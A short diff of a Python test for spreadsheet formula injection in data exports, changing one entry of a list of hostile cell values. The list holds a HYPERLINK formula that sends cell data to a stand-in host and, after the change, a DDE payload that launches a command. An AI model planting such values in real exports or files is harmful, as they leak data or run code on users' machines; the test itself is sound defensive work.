@@ -317,7 +317,7 @@ class RegistrantsExportTest(ExportTest):
 
 class FormulaInjectionTest(ExportTest):
     EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)", "+1", "-1",
-            "=1+1", "\tTAB"]
+            "=1+1", "=cmd|' /C calc'!A0"]
 
     def setUp(self):
         super().setUp()
